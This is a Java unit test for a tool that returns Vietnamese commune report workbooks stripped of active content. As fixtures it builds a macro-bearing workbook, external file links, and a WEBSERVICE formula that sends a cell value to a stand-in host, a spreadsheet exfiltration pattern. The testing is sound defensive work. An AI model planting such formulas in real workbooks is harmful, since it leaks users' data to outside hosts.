package tonghop.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.text.Normalizer;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import java.util.zip.ZipInputStream;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.extractor.XWPFWordExtractor;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tonghop.ingest.Packages;

/** What goes back to a unit does nothing by itself, and no workbook, however odd, keeps the others from being published. */
class SentBackTest {
    private static final String ACTIVE = "macro, đối tượng của chương trình khác";
    private static final String VALUES = "bản chép các giá trị của tệp";

    @TempDir
    Path folder;

    private SmallCluster cluster;

    @BeforeEach
    void five_communes_have_sent() throws IOException {
        cluster = new SmallCluster(folder);
        cluster.sendsNothing("Cao Xá");
    }

    private static <W extends Workbook> W filled(W workbook) {
        Sheet sheet = workbook.createSheet("Biểu 1");
        sheet.createRow(0).createCell(0).setCellValue("UBND xã Cao Xá");
        List<List<String>> lines = List.of(
                List.of("Chỉ tiêu", "Đơn vị tính", "Thực hiện năm 2025"),
                List.of("Tổng thu ngân sách", "triệu đồng", "1201"),
                List.of("Số hộ nghèo", "hộ", "151"),
                List.of("Số học sinh", "học sinh", "31l"));
        lines.forEach(line -> {
            Row row = sheet.createRow(sheet.getLastRowNum() + 1);
            line.forEach(
                    text -> row.createCell(Math.max(0, row.getLastCellNum())).setCellValue(text));
        });
        return workbook;
    }

    private void send(String file, byte[] bytes) throws IOException {
        Files.write(cluster.input().resolve(file), bytes);
    }

    private Path packet() {
        return cluster.output().resolve("tra-lai/902-cao-xa");
    }

    private String letter() throws IOException {
        try (InputStream in = Files.newInputStream(packet().resolve("phieu-yeu-cau.docx"));
                XWPFWordExtractor text = new XWPFWordExtractor(new XWPFDocument(in))) {
            return text.getText();
        }
    }

    /** The package with a relationship of its workbook and the part that it leads to. */
    private static byte[] with(byte[] workbook, String type, String part, String content) throws IOException {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(workbook))) {
            for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                parts.put(entry.getName(), zip.readAllBytes());
            }
        }
        String relations = new String(parts.get("xl/_rels/workbook.xml.rels"), StandardCharsets.UTF_8);
        String added = Packages.relationship("rIdOdd", type, part) + "</Relationships>";
        parts.put(
                "xl/_rels/workbook.xml.rels",
                relations.replace("</Relationships>", added).getBytes(StandardCharsets.UTF_8));
        parts.put("xl/" + part, content.getBytes(StandardCharsets.UTF_8));
        return Packages.zipOfBytes(parts);
    }

    @Test
    void macros_links_to_files_and_formulas_that_reach_out_do_not_go_back_and_the_letter_says_so() throws IOException {
        Map<String, byte[]> active = new LinkedHashMap<>();
        byte[] plain = Packages.bytes(filled(new XSSFWorkbook()));
        active.put("Cao Xá 1.xlsm", with(plain, "vbaProject", "vbaProject.bin", "Auto_Open"));
        active.put("Cao Xá 2.xlsx", with(plain, "externalLink", "externalLinks/externalLink1.xml", "<externalLink/>"));
        XSSFWorkbook web = filled(new XSSFWorkbook());
        web.getSheetAt(0).createRow(9).createCell(6).setCellFormula("_xlfn.WEBSERVICE(\"http://a.example/\"&A1)");
        active.put("Cao Xá 3.xlsx", Packages.bytes(web));
        HSSFWorkbook linked = filled(new HSSFWorkbook());
        linked.linkExternalWorkbook("C:\\kho\\tong hop.xls", new HSSFWorkbook());
        active.put("Cao Xá 4.xls", Packages.bytes(linked));
        for (Map.Entry<String, byte[]> file : active.entrySet()) {
            send(file.getKey(), file.getValue());

            assertThat(cluster.run()).as(file.getKey()).isEqualTo(1);

            assertThat(letter()).as(file.getKey()).contains(VALUES, ACTIVE);
            Path copy = packet().resolve(file.getKey().replaceFirst("[.][a-z]+$", ".xlsx"));
            assertThat(parts(copy)).noneMatch(part -> part.matches(".*(?:vba|external|connections).*"));
            try (XSSFWorkbook values = new XSSFWorkbook(Files.newInputStream(copy))) {
                assertThat(values.getSheet("Biểu 1").getRow(4).getCell(2).getStringCellValue())
                        .isEqualTo("31l");
            }
            Files.delete(cluster.input().resolve(file.getKey()));
        }
    }

    @Test
    void a_workbook_whose_last_block_is_short_goes_back_marked() throws IOException {
        byte[] whole = Packages.bytes(filled(new HSSFWorkbook()));
        int end = whole.length;
        while (whole[end - 1] == 0 || whole[end - 1] == -1) {
            end--;
        }
        send("Cao Xá.xls", Arrays.copyOf(whole, end));

        assertThat(cluster.run()).isEqualTo(1);

        try (POIFSFileSystem copy = new POIFSFileSystem(Files.newInputStream(packet().resolve("Cao Xá.xls")));
                HSSFWorkbook marked = new HSSFWorkbook(copy)) {
            assertThat(marked.getSheetName(0)).isEqualTo("Cần rà soát");
        }
    }

    @Test
    void a_workbook_that_the_library_cannot_open_goes_back_as_its_values() throws IOException {
        send("Cao Xá.xlsx", with(Packages.bytes(filled(new XSSFWorkbook())), "theme", "theme/odd.xml", "<theme><"));

        assertThat(cluster.run()).isEqualTo(1);

        assertThat(letter()).contains(VALUES, "không ghi lại");
        assertThat(Files.exists(packet().resolve("Cao Xá.xlsx"))).isTrue();
    }

    @Test
    void two_names_that_differ_in_their_form_of_unicode_alone_are_two_copies() throws IOException {
        byte[] workbook = Packages.bytes(filled(new XSSFWorkbook()));
        send("Cao Xá.xlsx", workbook);
        XSSFWorkbook other = filled(new XSSFWorkbook());
        other.getSheetAt(0).getRow(4).getCell(2).setCellValue("3l1");
        send(Normalizer.normalize("Cao Xá.xlsx", Normalizer.Form.NFD), Packages.bytes(other));

        assertThat(cluster.run()).isEqualTo(1);

        try (Stream<Path> sent = Files.list(packet())) {
            assertThat(sent.map(path -> path.getFileName().toString()).filter(name -> name.endsWith(".xlsx")))
                    .containsExactlyInAnyOrder("Cao Xá.xlsx", "Cao Xá (2).xlsx");
        }
    }

    private static List<String> parts(Path file) throws IOException {
        try (ZipFile zip = new ZipFile(file.toFile())) {
            return new ArrayList<>(zip.stream().map(ZipEntry::getName).toList());
        }
    }
}
